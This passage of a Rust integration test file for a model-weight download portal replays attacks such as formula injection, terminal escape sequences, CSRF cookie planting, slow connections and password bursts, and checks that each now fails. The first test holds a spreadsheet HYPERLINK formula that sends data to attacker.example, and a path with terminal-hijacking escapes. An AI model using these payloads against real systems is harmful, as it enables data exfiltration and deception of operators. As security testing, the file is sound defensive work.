//! The gate and the proof against an attacker and an insider: each scenario
//! reproduces an attack that once worked, and checks what holds now.

use reqwest::StatusCode;

use crate::{cli::weightgate, helpers::*};

both!(audit_output_shows_hostile_text_without_obeying_it);
async fn audit_output_shows_hostile_text_without_obeying_it() {
    let t = TestApp::spawn().await;
    let access = t.approved_researcher("term@uni.example.edu").await;
    let links = t.download_links(&access).await;
    let (_, url) = &links[0];
    // A made-up link whose file name is an escape sequence that would
    // clear the operator's screen and retitle the terminal: refused, and
    // the name recorded as sent.
    let hostile = t.url("/dl/not-a-link/%1b%5d0%3bpwned%07%1b%5b2J");
    let response = t.client.get(&hostile).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
    // A user agent that a spreadsheet would run as a formula.
    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
    let response = t
        .client
        .get(url)
        .header("user-agent", formula)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    response.bytes().await.unwrap();
    t.wait_for_events("file.delivered", 1).await;

    let (ok, table, err) = weightgate(&t, &["audit", "list"], None);
    assert!(ok, "{err}");
    assert!(!table.contains('\u{1b}') && !table.contains('\u{7}'), "{table:?}");
    assert!(table.contains("\\x1b]0;pwned\\x07"), "{table}");
    let (ok, tail, err) = weightgate(&t, &["audit", "tail", "-n", "50"], None);
    assert!(ok, "{err}");
    assert!(!tail.contains('\u{1b}') && tail.contains("\\x1b[2J"), "{tail:?}");

    let (ok, csv, err) = weightgate(&t, &["audit", "list", "--format", "csv"], None);
    assert!(ok, "{err}");
    assert!(
        csv.contains(&format!("'{}", formula.replace('"', "\"\""))),
        "{csv}"
    );
    assert!(
        !csv.contains(&format!(",\"{}", formula.replace('"', "\"\""))),
        "{csv}"
    );
    let (ok, exported, err) = weightgate(&t, &["audit", "export", "--format", "csv"], None);
    assert!(ok, "{err}");
    assert!(exported.contains("'=HYPERLINK"), "{exported}");

    // JSON lines stay exact: a program reading them gets what was sent.
    let (ok, jsonl, err) = weightgate(&t, &["audit", "list", "--format", "jsonl"], None);
    assert!(ok, "{err}");
    let events: Vec<serde_json::Value> = jsonl.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(events.iter().any(|e| e["user_agent"] == formula));
    assert!(events.iter().any(|e| {
        e["subject"]
            .as_str()
            .is_some_and(|s| s.contains("\u{1b}]0;pwned\u{7}\u{1b}[2J"))
    }));
}

both!(made_up_methods_do_not_grow_the_metrics);
async fn made_up_methods_do_not_grow_the_metrics() {
    let t = TestApp::spawn().await;
    for i in 0..300 {
        let method = reqwest::Method::from_bytes(format!("M{i}X").as_bytes()).unwrap();
        for path in ["/", "/no/such/page"] {
            let response = t
                .client
                .request(method.clone(), t.url(path))
                .send()
                .await
                .unwrap();
            assert!(response.status().is_client_error(), "{}", response.status());
        }
    }
    // The recorder is the test process's, shared with the scenarios running
    // beside this one: look at the method labels, which only this one makes up.
    let text = t.metrics().await;
    let mut methods: Vec<&str> = all_between(&text, "method=\"", "\"");
    methods.sort_unstable();
    methods.dedup();
    assert!(methods.iter().all(|m| !m.starts_with('M')), "{methods:?}");
    assert!(methods.len() <= 10, "{methods:?}");
    assert!(methods.contains(&"other"), "{methods:?}");
}

both!(a_head_never_hands_out_a_presigned_url);
async fn a_head_never_hands_out_a_presigned_url() {
    let server = crate::storage::S3Server::start().await;
    let t = TestApp::spawn_with(|c| {
        server.configure(c);
        c.delivery = weightgate::config::DeliveryMode::Redirect;
    })
    .await;
    let slug: weightgate::types::Slug = MODEL.parse().unwrap();
    weightgate::domain::models::set_quota(&t.app, &slug, None, Some(1), "test")
        .await
        .unwrap();
    let access = t.approved_researcher("head@uni.example.edu").await;
    let links = t.download_links(&access).await;
    assert_eq!(links.len(), 3);
    let no_follow = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    // HEAD on every file, with and without a range: the portal answers
    // from the file's metadata and names no URL the store would serve.
    for (name, url) in &links {
        let size = t.files.iter().find(|(n, _)| n == name).unwrap().1.len();
        for range in [None, Some("bytes=0-0")] {
            let mut head = no_follow.head(url);
            if let Some(range) = range {
                head = head.header("range", range);
            }
            let response = head.send().await.unwrap();
            assert!(response.status().is_success(), "{name}: {}", response.status());
            assert!(
                response.headers().get("location").is_none(),
                "{name}: {:?}",
                response.headers()
            );
            let length = if range.is_some() { 1 } else { size };
            assert_eq!(
                response.headers()["content-length"],
                length.to_string().as_str(),
                "{name}"
            );
        }
    }
    // The one file the quota allows is still there to fetch; a second is not.
    let first = no_follow.get(&links[0].1).send().await.unwrap();
    assert_eq!(first.status(), StatusCode::FOUND);
    let second = no_follow.get(&links[1].1).send().await.unwrap();
    assert_eq!(second.status(), StatusCode::FORBIDDEN);
    let body: serde_json::Value = second.json().await.unwrap();
    assert_eq!(body["error"], "quota_spent");
    // Every HEAD is in the log as a fetch that delivered nothing.
    let events = t.audit_events().await;
    let heads = events
        .iter()
        .filter(|e| e.action == "file.fetch" && e.reason.as_deref() == Some("head"))
        .count();
    assert_eq!(heads, 6);
    let delivered: Vec<_> = events.iter().filter(|e| e.action == "file.delivered").collect();
    assert_eq!(delivered.len(), 1, "{delivered:?}");
}

both!(an_ipv6_network_shares_one_allowance);
async fn an_ipv6_network_shares_one_allowance() {
    // The test client connects from 127.0.0.1, which plays the balancer.
    let t = TestApp::spawn_with(|c| {
        c.trusted_proxies = "127.0.0.1".parse().unwrap();
        c.limit_applications_per_address = "2/1h".parse().unwrap();
    })
    .await;
    use crate::hostile::{assert_limited, forwarded_client, post_apply};
    // Two addresses of one /64: one allowance between them.
    for (n, address) in ["2001:db8:1:2::1", "2001:db8:1:2:aaaa:bbbb:cccc:dddd"]
        .iter()
        .enumerate()
    {
        let response = post_apply(&t, &forwarded_client(address), &format!("v6-{n}@example.org")).await;
        assert_eq!(response.status(), StatusCode::OK, "{address}");
    }
    let third = forwarded_client("2001:db8:1:2:ffff:ffff:ffff:fffe");
    assert_limited(
        post_apply(&t, &third, "v6-2@example.org").await,
        "a third address of the /64",
    )
    .await;
    // The next /64 is someone else.
    let neighbour = forwarded_client("2001:db8:1:3::1");
    assert_eq!(
        post_apply(&t, &neighbour, "v6-3@example.org").await.status(),
        StatusCode::OK
    );
}

both!(a_refused_manifest_url_request_mints_nothing);
async fn a_refused_manifest_url_request_mints_nothing() {
    let t = TestApp::spawn_with(|c| c.limit_links_per_grant = "2/1h".parse().unwrap()).await;
    t.approved_researcher("mint@uni.example.edu").await;
    let browser = client();
    let mut seen = std::collections::HashSet::new();
    crate::researcher::sign_in_researcher(&t, &browser, "mint@uni.example.edu", &mut seen).await;
    let grant_id: String = sqlx::query_scalar("SELECT id FROM grants")
        .fetch_one(t.app.db.pool())
        .await
        .unwrap();
    let action = format!("/me/access/{grant_id}/client-url");
    // My access signs links once; the first manifest URL is the second use.
    let first = t.post_form(&browser, "/me/access", &action, &[]).await;
    assert_eq!(first.status(), StatusCode::OK);
    // The allowance is spent: no page to take a CSRF token from either, so
    // reuse the one the last page carried.
    let (_, page) = t.get_html(&browser, "/me/access").await;
    assert!(page.contains("too often"), "{page}");
    let refused = browser
        .post(t.url(&action))
        .header("accept", "text/html")
        .form(&[("authenticity_token", csrf(&first.text().await.unwrap()))])
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    let tokens: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM grant_tokens WHERE origin = 'my_access'")
        .fetch_one(t.app.db.pool())
        .await
        .unwrap();
    assert_eq!(tokens, 1, "a refused request made no access URL");
    let issued = t
        .audit_events()
        .await
        .iter()
        .filter(|e| e.action == "grant.token_issued")
        .count();
    assert_eq!(issued, 1);
}

/// `weightgate serve` as a separate process on a test portal's data
/// directory and database, with what it logs collected as it comes. Killed
/// when dropped.
pub(crate) struct ServeProcess {
    child: Option<std::process::Child>,
    pub base: String,
    logs: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
    reader: Option<std::thread::JoinHandle<()>>,
}

impl ServeProcess {
    /// Starts it with `env` added, and returns once it answers.
    pub(crate) async fn start(t: &TestApp, env: &[(&str, &str)]) -> Self {
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_weightgate"))
            .arg("serve")
            .env("WEIGHTGATE_DATA_DIR", &t.app.config.data_dir)
            .env("WEIGHTGATE_DATABASE_URL", t.app.config.database_url())
            .env("WEIGHTGATE_BIND", format!("127.0.0.1:{port}"))
            .envs(env.iter().copied())
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // Read as it is written: a full pipe would stop the portal mid-log.
        let logs = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let mut stderr = child.stderr.take().unwrap();
        let sink = logs.clone();
        let reader = std::thread::spawn(move || {
            let mut buf = [0u8; 8192];
            while let Ok(n) = std::io::Read::read(&mut stderr, &mut buf) {
                if n == 0 {
                    break;
                }
                sink.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        });
        let portal = Self {
            child: Some(child),
            base: format!("http://127.0.0.1:{port}"),
            logs,
            reader: Some(reader),
        };
        for _ in 0..400 {
            if reqwest::get(format!("{}/healthz", portal.base)).await.is_ok() {
                return portal;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
        panic!("weightgate serve did not start");
    }

    /// Stops it with SIGTERM and returns all it logged.
    pub(crate) async fn stop(mut self) -> String {
        let mut child = self.child.take().unwrap();
        let pid = child.id().to_string();
        assert!(
            std::process::Command::new("kill")
                .args(["-TERM", &pid])
                .status()
                .unwrap()
                .success()
        );
        let reader = self.reader.take();
        tokio::task::spawn_blocking(move || {
            child.wait().unwrap();
            if let Some(reader) = reader {
                reader.join().unwrap();
            }
        })
        .await
        .unwrap();
        String::from_utf8_lossy(&self.logs.lock().unwrap()).into_owned()
    }
}

impl Drop for ServeProcess {
    fn drop(&mut self) {
        if let Some(mut child) = self.child.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

both!(no_secret_reaches_the_logs);
async fn no_secret_reaches_the_logs() {
    let t = TestApp::spawn().await;
    let portal = ServeProcess::start(
        &t,
        &[("WEIGHTGATE_LOG", "debug"), ("WEIGHTGATE_SHUTDOWN_GRACE", "1s")],
    )
    .await;
    let base = portal.base.clone();
    let url = |path: &str| format!("{base}{path}");
    let email = "logs@uni.example.edu";
    let researcher = client();
    let page = researcher
        .get(url(&format!("/models/{MODEL}")))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let response = researcher
        .post(url(&format!("/models/{MODEL}/apply")))
        .form(&[
            ("authenticity_token", csrf(&page).as_str()),
            ("name", "Log Reader"),
            ("email", email),
            ("affiliation", "Lab"),
            ("intended_use", "Research"),
            ("accept_terms", "on"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let confirm = link_in(
        &t.wait_for_mail(email, "Confirm your application").await,
        "/confirm/",
    );
    let page = researcher
        .get(&confirm)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let response = researcher
        .post(&confirm)
        .form(&[("authenticity_token", csrf(&page))])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let reviewer = client();
    t.sign_in(&reviewer).await;
    let id = t.pending_application(&reviewer, email).await;
    let response = t
        .post_form(
            &reviewer,
            &format!("/admin/applications/{id}"),
            &format!("/admin/applications/{id}/approve"),
            &[],
        )
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let access = link_in(&t.wait_for_mail(email, "is approved").await, "/access/");
    let links = t.download_links(&access).await;
    let download = links[0].1.replacen(&t.base, &base, 1);
    assert_eq!(
        researcher.get(&download).send().await.unwrap().status(),
        StatusCode::OK
    );
    assert_eq!(
        researcher
            .get(access.replacen(&t.base, &base, 1))
            .send()
            .await
            .unwrap()
            .status(),
        StatusCode::OK
    );
    let page = researcher
        .get(url("/signin"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    researcher
        .post(url("/signin"))
        .form(&[("authenticity_token", csrf(&page).as_str()), ("email", email)])
        .send()
        .await
        .unwrap();
    let signin = link_in(&t.wait_for_mail(email, "sign-in link").await, "/signin/");
    let page = researcher
        .get(&signin)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let response = researcher
        .post(&signin)
        .form(&[("authenticity_token", csrf(&page))])
        .send()
        .await
        .unwrap();
    assert_eq!(response.url().path(), "/me");

    let logs = portal.stop().await;
    assert!(
        logs.contains("/confirm/…") && logs.contains("/dl/…"),
        "the requests were logged:\n{logs}"
    );
    assert!(
        !logs.contains('\u{1b}'),
        "a log written to a pipe has no colour codes"
    );
    let secret = |link: &str, marker: &str| {
        link.split(marker)
            .nth(1)
            .unwrap()
            .split('/')
            .next()
            .unwrap()
            .to_owned()
    };
    for (what, token) in [
        ("confirmation link", secret(&confirm, "/confirm/")),
        ("access page", secret(&access, "/access/")),
        ("download link", secret(&download, "/dl/")),
        ("sign-in link", secret(&signin, "/signin/")),
    ] {
        assert!(token.len() >= 20, "{what}: {token}");
        assert!(
            !logs.contains(&token),
            "the {what}'s secret is in the logs:\n{logs}"
        );
    }
}

/// A client whose cookies the test can read.
fn client_with_jar() -> (reqwest::Client, std::sync::Arc<reqwest::cookie::Jar>) {
    weightgate::client::install_crypto();
    let jar = std::sync::Arc::new(reqwest::cookie::Jar::default());
    let client = reqwest::Client::builder()
        .cookie_provider(jar.clone())
        .build()
        .unwrap();
    (client, jar)
}

fn cookie(jar: &reqwest::cookie::Jar, base: &str, name: &str) -> String {
    use reqwest::cookie::CookieStore;
    let header = jar.cookies(&base.parse().unwrap()).expect("cookies were set");
    header
        .to_str()
        .unwrap()
        .split("; ")
        .find_map(|c| c.strip_prefix(&format!("{name}=")))
        .unwrap_or_else(|| panic!("no {name} cookie"))
        .to_owned()
}

/// `count` sign-in forms, each from a browser of its own, sent at once.
async fn sign_in_burst(t: &TestApp, count: usize, account: impl Fn(usize) -> String) -> Vec<StatusCode> {
    let mut forms = Vec::new();
    for i in 0..count {
        let browser = client();
        let (_, page) = t.get_html(&browser, "/admin/login").await;
        forms.push((browser, csrf(&page), account(i)));
    }
    let sent = forms.into_iter().map(|(browser, token, email)| {
        let url = t.url("/admin/login");
        async move {
            browser
                .post(url)
                .form(&[
                    ("authenticity_token", token.as_str()),
                    ("email", &email),
                    ("password", "a wrong password!"),
                ])
                .send()
                .await
                .unwrap()
                .status()
        }
    });
    futures_util::future::join_all(sent).await
}

both!(a_burst_of_wrong_passwords_gets_no_more_checks_than_a_series);
async fn a_burst_of_wrong_passwords_gets_no_more_checks_than_a_series() {
    // Enough password checks at once that none is refused as busy.
    let t = TestApp::spawn_with(|c| c.password_checks = 64).await;
    let statuses = sign_in_burst(&t, 40, |_| REVIEWER.to_owned()).await;
    let checked = statuses
        .iter()
        .filter(|s| **s == StatusCode::UNAUTHORIZED)
        .count();
    assert_eq!(
        checked, 5,
        "{checked} of 40 concurrent guesses were checked: {statuses:?}"
    );
    assert!(
        statuses
            .iter()
            .all(|s| [StatusCode::UNAUTHORIZED, StatusCode::TOO_MANY_REQUESTS].contains(s))
    );
    let events = t.audit_events().await;
    let failed = events
        .iter()
        .filter(|e| e.reason.as_deref() == Some("bad_credentials"))
        .count();
    assert_eq!(failed, checked, "every check is in the log");
    // The right password waits like any other attempt.
    let (status, _) = crate::dashboard::sign_in_as(&t, &client(), REVIEWER, PASSWORD).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
}

both!(password_checks_beyond_the_limit_are_refused_not_queued);
async fn password_checks_beyond_the_limit_are_refused_not_queued() {
    let t = TestApp::spawn_with(|c| c.password_checks = 1).await;
    // Twenty accounts (none exists), so no per-account limit applies; the
    // address allows twenty attempts.
    let statuses = sign_in_burst(&t, 20, |i| format!("nobody{i}@lab.example.org")).await;
    let busy = statuses
        .iter()
        .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
        .count();
    let checked = statuses
        .iter()
        .filter(|s| **s == StatusCode::UNAUTHORIZED)
        .count();
    assert!(busy > 0 && checked > 0, "{statuses:?}");
    assert_eq!(busy + checked, 20, "{statuses:?}");
    // A refusal for a busy portal does not count as a failed attempt.
    let (status, _) = crate::dashboard::sign_in_as(&t, &client(), REVIEWER, PASSWORD).await;
    assert_eq!(status, StatusCode::OK);
}

both!(a_session_lasts_while_used_and_ends_when_idle);
async fn a_session_lasts_while_used_and_ends_when_idle() {
    let t = TestApp::spawn_with(|c| c.session_idle = std::time::Duration::from_secs(3)).await;
    let reviewer = client();
    t.sign_in(&reviewer).await;
    // Five seconds of use: past the idle time counted from sign-in.
    for _ in 0..5 {
        tokio::time::sleep(std::time::Duration::from_secs(1)).await;
        let response = reviewer.get(t.url("/admin")).send().await.unwrap();
        assert_eq!(response.url().path(), "/admin", "a session in use goes on");
    }
    tokio::time::sleep(std::time::Duration::from_secs(4)).await;
    let response = reviewer.get(t.url("/admin")).send().await.unwrap();
    assert_eq!(response.url().path(), "/admin/login", "an idle session ends");
}

both!(a_new_password_ends_every_other_session);
async fn a_new_password_ends_every_other_session() {
    let t = TestApp::spawn().await;
    let (here, there) = (client(), client());
    t.sign_in(&here).await;
    t.sign_in(&there).await;
    let new_password = "a brand new reviewer password";
    let response = t
        .post_form(
            &here,
            "/admin/account",
            "/admin/account/password",
            &[
                ("current", PASSWORD),
                ("new", new_password),
                ("again", new_password),
            ],
        )
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    assert!(
        response
            .text()
            .await
            .unwrap()
            .contains("Your password is changed")
    );
    let (_, page) = t.get_html(&here, "/admin").await;
    assert!(
        page.contains("Log out") || page.contains("Sign out"),
        "this session goes on"
    );
    let response = there.get(t.url("/admin")).send().await.unwrap();
    assert_eq!(response.url().path(), "/admin/login", "the other session ended");
    let (status, _) = crate::dashboard::sign_in_as(&t, &client(), REVIEWER, new_password).await;
    assert_eq!(status, StatusCode::OK);
    // A wrong current password changes nothing.
    let response = t
        .post_form(
            &here,
            "/admin/account",
            "/admin/account/password",
            &[
                ("current", "not my password at all"),
                ("new", "yet another long password"),
                ("again", "yet another long password"),
            ],
        )
        .await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let changes = t
        .audit_events()
        .await
        .iter()
        .filter(|e| e.action == "reviewer.password_changed" && e.outcome == "ok")
        .count();
    assert_eq!(changes, 1);
    // An operator's reset from the command line ends every session.
    let (ok, _, err) = weightgate(
        &t,
        &["reviewer", "add", REVIEWER, "--admin", "--password-stdin"],
        Some("reset by the operator\n"),
    );
    assert!(ok, "{err}");
    let response = here.get(t.url("/admin")).send().await.unwrap();
    assert_eq!(response.url().path(), "/admin/login");
}

both!(a_planted_csrf_cookie_does_not_pass_for_the_session);
async fn a_planted_csrf_cookie_does_not_pass_for_the_session() {
    let t = TestApp::spawn().await;
    // The attacker gets a matching cookie and token of their own...
    let (attacker, attacker_jar) = client_with_jar();
    let (_, page) = t.get_html(&attacker, "/admin/login").await;
    let attacker_token = csrf(&page);
    let attacker_cookie = cookie(&attacker_jar, &t.base, "wg_csrf");
    // ...and plants the cookie in a signed-in reviewer's browser.
    let (victim, victim_jar) = client_with_jar();
    t.sign_in(&victim).await;
    let session = cookie(&victim_jar, &t.base, "wg_session");
    let forged = reqwest::Client::new()
        .post(t.url("/admin/account"))
        .header(
            "cookie",
            format!("wg_session={session}; wg_csrf={attacker_cookie}"),
        )
        .form(&[("authenticity_token", attacker_token.as_str()), ("notify", "off")])
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status(), StatusCode::FORBIDDEN);
    let me = weightgate::db::reviewers::find_by_email(t.app.db.pool(), REVIEWER)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        me.notify,
        weightgate::types::states::Notify::Immediate,
        "nothing changed"
    );
    // The session's own token works.
    let response = t
        .post_form(&victim, "/admin/account", "/admin/account", &[("notify", "off")])
        .await;
    assert_eq!(response.status(), StatusCode::OK);
}

both!(under_https_the_cookies_are_host_only);
async fn under_https_the_cookies_are_host_only() {
    let t = TestApp::spawn_with(|c| c.public_url = Some("https://portal.example.org".into())).await;
    let plain = reqwest::Client::new();
    let response = plain.get(t.url("/admin/login")).send().await.unwrap();
    let set: Vec<String> = response
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().unwrap().to_owned())
        .collect();
    let csrf_cookie = set
        .iter()
        .find(|c| c.starts_with("__Host-wg_csrf="))
        .unwrap_or_else(|| panic!("{set:?}"));
    assert!(
        csrf_cookie.contains("Secure") && csrf_cookie.contains("Path=/") && !csrf_cookie.contains("Domain"),
        "{csrf_cookie}"
    );
    let value = csrf_cookie.split(';').next().unwrap().to_owned();
    let page = response.text().await.unwrap();
    let response = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
        .post(t.url("/admin/login"))
        .header("cookie", value)
        .form(&[
            ("authenticity_token", csrf(&page).as_str()),
            ("email", REVIEWER),
            ("password", PASSWORD),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let set: Vec<String> = response
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().unwrap().to_owned())
        .collect();
    let session = set
        .iter()
        .find(|c| c.starts_with("__Host-wg_session="))
        .unwrap_or_else(|| panic!("{set:?}"));
    assert!(
        session.contains("Secure")
            && session.contains("HttpOnly")
            && session.contains("Path=/")
            && !session.contains("Domain"),
        "{session}"
    );
}

/// Whether the portal closes `stream` within `within`: a read returns
/// end-of-file or an error (a reset) rather than timing out.
async fn closed_within(stream: &mut tokio::net::TcpStream, within: std::time::Duration) -> bool {
    use tokio::io::AsyncReadExt;
    let mut buf = [0u8; 1024];
    let deadline = tokio::time::Instant::now() + within;
    loop {
        match tokio::time::timeout_at(deadline, stream.read(&mut buf)).await {
            Err(_) => return false,
            Ok(Ok(0) | Err(_)) => return true,
            // An answer (a 408, say) may come first; the close follows.
            Ok(Ok(_)) => continue,
        }
    }
}

both!(half_sent_requests_and_idle_connections_are_dropped);
async fn half_sent_requests_and_idle_connections_are_dropped() {
    use tokio::io::AsyncWriteExt;
    let t = TestApp::spawn_with(|c| c.header_timeout = std::time::Duration::from_secs(1)).await;
    let addr = t.base.trim_start_matches("http://").to_owned();
    // Half a request, never finished.
    let mut slow = tokio::net::TcpStream::connect(&addr).await.unwrap();
    slow.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        .await
        .unwrap();
    // Nothing at all.
    let mut silent = tokio::net::TcpStream::connect(&addr).await.unwrap();
    // A whole request, then an idle kept-alive connection.
    let mut idle = tokio::net::TcpStream::connect(&addr).await.unwrap();
    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    // A body trickled in, a byte now and then.
    let mut trickle = tokio::net::TcpStream::connect(&addr).await.unwrap();
    trickle
        .write_all(b"POST /admin/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\na")
        .await
        .unwrap();
    let trickling = tokio::spawn(async move {
        for _ in 0..20 {
            tokio::time::sleep(std::time::Duration::from_millis(400)).await;
            if trickle.write_all(b"a").await.is_err() {
                break;
            }
        }
        trickle
    });
    for (what, stream) in [
        ("half-sent", &mut slow),
        ("silent", &mut silent),
        ("idle", &mut idle),
    ] {
        assert!(
            closed_within(stream, std::time::Duration::from_secs(10)).await,
            "the {what} connection is still open"
        );
    }
    let mut trickle = trickling.await.unwrap();
    assert!(
        closed_within(&mut trickle, std::time::Duration::from_secs(5)).await,
        "the trickled body's connection is still open"
    );
}

both!(one_address_cannot_hold_every_connection);
async fn one_address_cannot_hold_every_connection() {
    use tokio::io::AsyncWriteExt;
    let t = TestApp::spawn_with(|c| {
        c.max_connections_per_address = 10;
        c.header_timeout = std::time::Duration::from_secs(20);
    })
    .await;
    let addr = t.base.trim_start_matches("http://").to_owned();
    let mut held = Vec::new();
    for _ in 0..30 {
        let mut stream = tokio::net::TcpStream::connect(&addr).await.unwrap();
        stream
            .write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            .await
            .unwrap();
        held.push(stream);
    }
    // The first ten wait for the rest of their headers; the others are
    // closed at once.
    let mut closed = 0;
    for stream in &mut held[10..] {
        closed += usize::from(closed_within(stream, std::time::Duration::from_secs(3)).await);
    }
    assert_eq!(closed, 20);
    // Another address is served meanwhile (127.0.0.2 is loopback too).
    let other = reqwest::Client::builder()
        .local_address("127.0.0.2".parse::<std::net::IpAddr>().unwrap())
        .build()
        .unwrap();
    let health = other.get(t.url("/healthz")).send().await.unwrap();
    assert_eq!(health.status(), StatusCode::OK);
    // Once the held connections close, the address is served again.
    drop(held);
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert_eq!(
        t.client.get(t.url("/healthz")).send().await.unwrap().status(),
        StatusCode::OK
    );
}

both!(two_replicas_cannot_pass_a_quota_together);
async fn two_replicas_cannot_pass_a_quota_together() {
    let t = TestApp::spawn().await;
    let big = crate::downloads::publish_big(&t).await;
    let slug = MODEL.parse().unwrap();
    weightgate::domain::models::set_quota(&t.app, &slug, None, Some(1), "test")
        .await
        .unwrap();
    let replica = ServeProcess::start(&t, &[("WEIGHTGATE_LOG", "warn")]).await;
    let access = t.approved_researcher("quota@uni.example.edu").await;
    let links = t.download_links(&access).await;
    let url = |name: &str| links.iter().find(|(n, _)| n == name).unwrap().1.clone();
    let on_replica = |link: String| link.replacen(&t.base, &replica.base, 1);

    // Two files at once, one through each replica: the quota allows one.
    let (here, there) = tokio::join!(
        t.client.get(url("huge.bin")).send(),
        client().get(on_replica(url("shard-1.bin"))).send(),
    );
    let (mut here, there) = (here.unwrap(), there.unwrap());
    let statuses = [here.status(), there.status()];
    assert!(statuses.contains(&StatusCode::FORBIDDEN), "{statuses:?}");
    assert_eq!(
        statuses.iter().filter(|s| s.is_success()).count(),
        1,
        "{statuses:?}"
    );
    drop(there);
    if here.status().is_success() {
        // The big transfer is under way here: the other replica counts it.
        here.chunk().await.unwrap().unwrap();
        let other = client().get(on_replica(url("shard-0.bin"))).send().await.unwrap();
        assert_eq!(other.status(), StatusCode::FORBIDDEN);
        let body: serde_json::Value = other.json().await.unwrap();
        assert_eq!(body["error"], "quota_spent");
        let mut received = here.chunk().await.unwrap().unwrap().to_vec();
        while let Some(chunk) = here.chunk().await.unwrap() {
            received.extend_from_slice(&chunk);
        }
        assert!(received.len() < big.len());
    }
    drop(here);
    // Whatever went through, the grant holds at most one file's worth of
    // started transfers in the log, across both replicas.
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let events = t.audit_events().await;
    let mut started: Vec<&str> = events
        .iter()
        .filter(|e| e.action == "file.fetch" && e.outcome == "ok" && e.reason.is_none())
        .filter_map(|e| e.file_id.as_deref())
        .collect();
    started.sort_unstable();
    started.dedup();
    assert_eq!(started.len(), 1, "{started:?}");
    assert!(t.app.verify_audit_log().await.unwrap().is_intact());
    replica.stop().await;
}

both!(a_retired_key_stops_its_links_at_once_on_every_replica);
async fn a_retired_key_stops_its_links_at_once_on_every_replica() {
    let t = TestApp::spawn().await;
    let replica = ServeProcess::start(&t, &[("WEIGHTGATE_LOG", "warn")]).await;
    let access = t.approved_researcher("keys@uni.example.edu").await;
    let links = t.download_links(&access).await;
    let (_, link) = &links[2];
    assert_eq!(t.client.get(link).send().await.unwrap().status(), StatusCode::OK);
    let kid = link
        .rsplit('/')
        .nth(1)
        .unwrap()
        .split('.')
        .nth(3)
        .unwrap()
        .to_owned();

    let (ok, out, err) = weightgate(&t, &["keys", "retire", &kid], None);
    assert!(ok, "{err}");
    assert!(out.contains("is retired"), "{out}");
    // Neither this portal nor the replica has reloaded its keys since; the
    // link is refused at once all the same.
    for base in [&t.base, &replica.base] {
        let response = client()
            .get(link.replacen(&t.base, base, 1))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{base}");
        let body: serde_json::Value = response.json().await.unwrap();
        assert_eq!(body["error"], "key_retired", "{base}");
    }
    // Fresh links come from the new key and work.
    let fresh = t.download_links(&access).await;
    assert!(!fresh[2].1.contains(&format!(".{kid}.")));
    assert_eq!(
        t.client.get(&fresh[2].1).send().await.unwrap().status(),
        StatusCode::OK
    );
    let (ok, listed, _) = weightgate(&t, &["keys", "list", "--format", "jsonl"], None);
    assert!(ok);
    let listed: Vec<serde_json::Value> = listed.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let retired = listed.iter().find(|k| k["kid"] == kid.as_str()).unwrap();
    assert!(
        retired["retired_at"].is_string() && retired["current"] == false,
        "{listed:?}"
    );
    let events = t.audit_events().await;
    assert!(
        events
            .iter()
            .any(|e| e.action == "keys.retired" && e.subject.as_deref() == Some(&format!("link key {kid}")))
    );
    assert!(
        events
            .iter()
            .any(|e| e.reason.as_deref() == Some("key_retired") && e.grant_id.is_some())
    );
    replica.stop().await;
}

/// Takes the audit chain's lock as another writer would, in a transaction
/// the caller commits: PostgreSQL's advisory lock, or SQLite's write lock.
/// Also says whether the portal runs on PostgreSQL.
async fn hold_the_chain(t: &TestApp) -> (bool, sqlx::Transaction<'static, sqlx::Any>) {
    let postgres = t.app.db.backend() == weightgate::db::Backend::Postgres;
    let mut holding = t
        .app
        .db
        .pool()
        .begin_with(if postgres { "BEGIN" } else { "BEGIN IMMEDIATE" })
        .await
        .unwrap();
    if postgres {
